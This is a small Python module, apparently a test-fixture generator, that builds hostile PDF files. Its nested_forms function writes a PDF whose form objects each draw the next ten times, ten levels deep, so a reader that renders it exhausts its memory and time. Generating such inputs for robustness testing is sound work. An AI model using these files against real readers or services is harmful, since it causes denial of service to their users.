"""Hostile files, made here: each is small, and costs a careless reader its memory, its time or its life."""


def pdf(*objects: bytes) -> bytes:
    """Return a PDF of these objects, the first of which is the catalogue."""
    content, offsets = b"%PDF-1.4\n", []
    for number, each in enumerate(objects, start=1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    return (
        content
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
        + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, len(content))
    )


def stream(body: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(body), body)


def nested_forms(depth: int = 10, times: int = 10) -> bytes:
    """Return a PDF whose page draws a form ten times, which draws another ten times, and so on."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>"
    forms = [
        stream(
            b"/X Do " * times,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (6 + number),
        )
        for number in range(depth - 1)
    ]
    last = stream(b"BT (x) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    catalogue, pages = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return pdf(catalogue, pages, page, stream(b"/X Do"), *forms, last)
